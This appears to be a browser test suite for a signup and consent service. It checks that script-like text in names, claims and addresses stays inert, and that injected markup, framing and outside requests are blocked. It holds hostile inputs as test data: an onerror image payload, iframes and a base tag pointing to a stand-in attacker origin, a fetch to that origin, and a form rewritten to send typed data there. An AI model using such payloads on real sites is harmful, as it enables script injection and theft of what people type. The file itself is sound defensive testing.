// What a real browser makes of hostile text and of pages that want to use ours: it runs none, frames none, sends nothing elsewhere (S077 to S079, S090, S093).
import assert from 'node:assert/strict'
import type { IncomingMessage } from 'node:http'
import { after, before, describe, it } from 'node:test'
import type { Page } from 'playwright-core'
import { listen } from '../../src/demo/listen.ts'
import { type Chromium, openChromium } from '../support/chromium.ts'
import { ada, PASSWORD } from '../support/people.ts'
import { type Mode, type Product, startProduct } from '../support/product.ts'
import { TRICKS } from '../support/tricks.ts'
import { until } from '../support/until.ts'
import { storedPerson } from '../support/visits.ts'

const SIGNUP = '/accountrecoveryendpoint/signup.do'

// By value: the words of the buttons are tricks, too.
const CREATE = 'button.primary[name="do"][value="create"]'
const DECLINE = 'button[name="do"][value="decline"]'

/** In the page: the elements that no view of ours prints. */
const GROWN = `[...document.querySelectorAll('*')].filter((element) => {
  const source = element.getAttribute('src') ?? ''
  return (
    element.getAttributeNames().some((name) => name.startsWith('on') || name === 'srcdoc' || name === 'autofocus') ||
    /^(iframe|object|embed|svg|math|style|base|noscript|textarea)$/.test(element.localName) ||
    (/^(script|img)$/.test(element.localName) && !source.startsWith('/public/')) ||
    /^\\s*javascript:/i.test(element.getAttribute('href') ?? '')
  )
}).map((element) => element.outerHTML.slice(0, 200))`

/** All of them, another one first each time. */
const tricks = (first: number) => [...TRICKS.slice(first), ...TRICKS.slice(0, first)].join(' ')

describe('in Chromium', () => {
  let product: Product
  let evil: { requests: string[]; url: string; stop(): Promise<void> }
  before(async () => {
    const requests: string[] = []
    const { port, stop } = await listen((req, res) => answerEvil(req, res, requests), 0)
    // Another origin of the same site: cookies go along, so that nothing but our own rules can stop it.
    evil = { requests, url: `http://localhost:${port}`, stop }
    product = await startProduct({
      modes: ['silent', 'consent', 'password', 'username'],
      change: (declared) => ({
        ...declared,
        organization: { name: `Northwind ${tricks(0)}`, privacyPolicyUrl: `${evil.url}/privacy` },
        attributes: declared.attributes.map((attribute) => ({ ...attribute, displayName: tricks(1) })),
        identityProviders: declared.identityProviders.map((idp) => ({
          ...idp,
          displayName: `${idp.name} ${tricks(2)}`,
        })),
        applications: declared.applications.map((application) => ({ ...application, name: `Travel ${tricks(3)}` })),
        purposes: declared.purposes.map((purpose) => ({ ...purpose, purpose: tricks(4), description: tricks(5) })),
      }),
    })
  })
  after(async () => {
    await product.stop()
    await evil.stop()
  })

  /** A page of somebody else, which frames or opens what its address says. */
  function answerEvil(req: IncomingMessage, res: import('node:http').ServerResponse, requests: string[]): void {
    requests.push(`${req.method} ${req.url} from ${req.headers.referer ?? 'nowhere'}`)
    const framed = new URL(req.url ?? '/', 'http://localhost').searchParams.get('frame')
    res.setHeader('Content-Type', 'text/html')
    res.end(
      framed === null
        ? '<h1>Evil</h1>'
        : `<h1>Evil</h1><iframe src="${framed}"></iframe><object data="${framed}"></object>`,
    )
  }

  /** Somebody new at the idp, who signs in from now on. */
  function person(name: string, claims: Record<string, unknown> = {}): string {
    const sub = `subject of ${name}`
    const { department, phone_number } = ada
    product.idp.person(name, {
      sub,
      preferred_username: name,
      email: `${name}@acme.example`,
      department,
      phone_number,
      ...claims,
    })
    product.idp.signInAs = name
    return sub
  }

  async function enter(page: Page, mode: Mode): Promise<void> {
    await page.goto(product.application.url)
    await page.locator(`[data-part="idps"] a[href*="idp=${mode}"]`).click()
  }

  /** Tells what happened in a browser that nobody asked for. */
  function watch({ context, cspViolations }: Chromium) {
    const happened: string[] = []
    context.on('dialog', (dialog) => {
      happened.push(`a dialog: ${dialog.message()}`)
      dialog.dismiss().catch(() => {})
    })
    context.on('request', (request) => {
      if (new URL(request.url()).hostname.endsWith('evil.example')) happened.push(`a request to ${request.url()}`)
    })
    return {
      ready: context.exposeBinding('canary', () => happened.push('a script ran')),
      /** Fails if anything did, or if markup of a trick has become part of the page. */
      async nothing(page: Page, where: string): Promise<void> {
        const grown = await page.evaluate(GROWN)
        assert.deepEqual(grown, [], where)
        assert.deepEqual(happened, [], where)
        assert.deepEqual(cspViolations, [], where)
      },
    }
  }

  it('text that would be script stays text, in every name, claim, answer and address, on every page', async () => {
    await inChromium(async (chromium) => {
      const { page } = chromium
      const watched = watch(chromium)
      await watched.ready
      for (const first of [0, 2]) {
        const claims = {
          preferred_username: tricks(first),
          name: tricks(first),
          email: tricks(first),
          phone_number: tricks(first + 3),
          department: [tricks(first), ...TRICKS],
        }
        person(`victim-${first}`, claims)
        await page.goto(product.application.url)
        assert.ok((await page.title()).includes('canary()'), 'the names are on the page')
        await watched.nothing(page, 'login.do')

        await enter(page, 'username')
        assert.equal(await page.locator('#username').inputValue(), tricks(first).replace(/[\r\n]/g, ''))
        await watched.nothing(page, 'register.do')
        const prompt = page.url()
        for (const summary of await page.locator('details > summary').all()) await summary.click()
        await page.locator('#username').fill(`${tricks(first + 6)}`)
        await page.locator('#new-password').fill(tricks(first).slice(0, 40))
        await page.locator('#new-password').blur()
        await page.locator(CREATE).click()
        await page.locator('[data-part="problems"]').waitFor()
        await watched.nothing(page, 'register.do with problems')
        const encoded = encodeURIComponent(tricks(first))
        await page.goto(`${prompt}&idp=${encoded}&x=${encoded}#${encoded}`)
        await page.locator('#username').waitFor()
        await watched.nothing(page, 'an address of tricks')

        await enter(page, 'password')
        await watched.nothing(page, 'signup.do')
        await page.locator(DECLINE).click()
        await page.locator('[data-msg="DECLINED"]').waitFor()
        await watched.nothing(page, 'declined')

        await enter(page, 'silent')
        await page.locator('[data-msg="USERNAME_POLICY"]').waitFor()
        await watched.nothing(page, 'refused')

        for (const address of [
          `/${encoded}`,
          `${SIGNUP}?sessionDataKey=${encoded}`,
          `/commonauth/${encoded}?error=${encoded}`,
          `/oauth2/authorize?client_id=${encoded}`,
        ]) {
          await page.goto(product.url + address)
          await watched.nothing(page, address.slice(0, 40))
        }
      }
      // And a name that is fit and hostile all the same, all the way to the application and out again.
      person('fit', { preferred_username: `"onfocus='canary()'<img>\`` })
      await enter(page, 'consent')
      await watched.nothing(page, 'a fit name')
      await page.locator('input[value="recover:email"]').check()
      await page.locator(CREATE).click()
      await page.locator('#result').waitFor()
      await page.goBack()
      await page.locator('[data-msg="FINISHED"]').waitFor()
      await watched.nothing(page, 'finished')
      await page.goto(`${product.application.url}/logout`)
      await page.locator('button[name="logout"]').waitFor()
      await watched.nothing(page, 'signing out')
    })
  })

  it('markup that somebody got into a page all the same neither runs, nor loads, nor sends what a person types', async () => {
    await inChromium(async ({ page, cspViolations }) => {
      const sub = person('careful')
      await enter(page, 'username')
      await page.locator('#new-password').fill(PASSWORD)
      const before = evil.requests.length
      const attempts: Record<string, string> = {
        'a script': `<img src="${evil.url}/img" onerror="document.title = 'ran'">`,
        'a frame': `<iframe src="${evil.url}/frame"></iframe>`,
        'a style sheet': `<link rel="stylesheet" href="${evil.url}/style">`,
        'an object': `<object data="${evil.url}/object"></object>`,
        'a base': `<base href="${evil.url}/">`,
        'a style': '<p id="styled" style="position:fixed">x</p>',
      }
      for (const [what, html] of Object.entries(attempts)) {
        const violations = cspViolations.length
        await page.evaluate(`document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(html)})`)
        await until(() => cspViolations.length > violations, `${what} was not reported`)
      }
      assert.equal(await page.evaluate('document.baseURI === document.URL'), true, 'the base is ours')
      assert.equal(await page.evaluate('getComputedStyle(document.querySelector("#styled")).position'), 'static')
      const fetched = await page.evaluate(
        `fetch('${evil.url}/fetch', { mode: 'no-cors' }).then(() => 'sent', () => 'stopped')`,
      )
      assert.equal(fetched, 'stopped')

      // The form is moved to another place, with all that was typed: the browser does not send it.
      for (const target of [`${evil.url}/form`, 'javascript:document.title="ran"']) {
        const violations = cspViolations.length
        await page.evaluate(`document.querySelector('form[data-part="form"]').action = ${JSON.stringify(target)}`)
        // Pressed by the page itself: whoever presses from outside would wait for a page that never comes.
        await page.evaluate(`document.querySelector('${CREATE}').click()`)
        await until(() => cspViolations.length > violations, `a form to ${target} was not reported`)
        assert.notEqual(await page.title(), 'ran', target)
        // A form is sent once from one page, be it in vain.
        await page.reload()
      }
      assert.deepEqual(evil.requests.slice(before), [])
      assert.equal(await storedPerson(product, sub), undefined)

      // Nothing is lost: the page asks again.
      await page.locator('#new-password').fill(PASSWORD)
      await page.locator('input[value="recover:email"]').check()
      await page.locator(CREATE).click()
      await page.locator('#result').waitFor()
      assert.ok(await storedPerson(product, sub), 'made after all')
      cspViolations.length = 0
    })
  })

  it('no page of ours shows in a page of somebody else, nor can the one that opened it reach it', async () => {
    await inChromium(async ({ page, context, cspViolations }) => {
      person('framed')
      await enter(page, 'username')
      const prompt = page.url()
      const other = await context.newPage()
      const choice = await other.goto(product.application.url)
      for (const target of [prompt, choice?.url() ?? '', `${product.url}/nothing`, `${product.url}/oidc/logout`]) {
        await other.goto(`${evil.url}/?frame=${encodeURIComponent(target)}`)
        const frames = other.frames().filter((frame) => frame !== other.mainFrame())
        assert.ok(frames.length > 0, target)
        for (const frame of frames) assert.match(frame.url(), /^(chrome-error:.*)?$/, target)
      }
      // What may be framed is: the proof that the frames above could have shown something.
      await other.goto(`${evil.url}/?frame=${encodeURIComponent(`${evil.url}/inner`)}`)
      assert.ok(
        other.frames().some((frame) => frame.url() === `${evil.url}/inner`),
        'the inner page',
      )

      const opened = async (address: string) => {
        const [popup] = await Promise.all([
          context.waitForEvent('page'),
          other.evaluate(`window.opened = open('${address}'), undefined`),
        ])
        await popup.waitForLoadState()
        await popup.locator('h1').waitFor()
        const reach = await other.evaluate('!window.opened.closed')
        const back = await popup.evaluate('window.opener !== null')
        await popup.close()
        return { reach, back }
      }
      assert.deepEqual(await opened(`${evil.url}/other`), { reach: true, back: true })
      assert.deepEqual(await opened(prompt), { reach: false, back: false })
      // The browser says so on the console of the page that tried.
      cspViolations.length = 0
    })
  })

  it('the notice of the organization opens without learning where somebody came from, and neither does the idp', async () => {
    await inChromium(async ({ page, context }) => {
      person('reader')
      await enter(page, 'consent')
      const [notice] = await Promise.all([
        context.waitForEvent('page'),
        page.locator('[data-part="consent"] a[target="_blank"]').click(),
      ])
      await notice.waitForLoadState()
      assert.deepEqual(
        evil.requests.filter((request) => request.includes('/privacy')),
        ['GET /privacy from nowhere'],
      )
      assert.equal(await notice.evaluate('window.opener'), null)
      await page.locator('[data-part="signed-in"] a').click()
      await page.locator('h1').waitFor()
      for (const { headers } of product.idp.requests) {
        assert.ok(!headers.referer?.startsWith(product.url), `the idp learnt ${headers.referer}`)
      }
    })
  })

  it('going back after the end shows nothing of the person', async () => {
    await inChromium(async ({ page }) => {
      person('leaver')
      await enter(page, 'username')
      assert.match(await page.content(), /leaver@acme\.example/)
      await page.locator('#username').fill('chosen-by-leaver')
      await page.locator(DECLINE).click()
      await page.locator('[data-msg="DECLINED"]').waitFor()
      await page.goBack()
      await page.locator('h1').waitFor()
      assert.doesNotMatch(await page.content(), /leaver/)
      await page.goForward()
      await page.locator('h1').waitFor()
      assert.doesNotMatch(await page.content(), /leaver/)
    })
  })
})

async function inChromium(story: (chromium: Chromium) => Promise<void>): Promise<void> {
  const chromium = await openChromium({ javaScript: true })
  try {
    await story(chromium)
    assert.deepEqual(chromium.cspViolations, [])
  } finally {
    await chromium.close()
  }
}
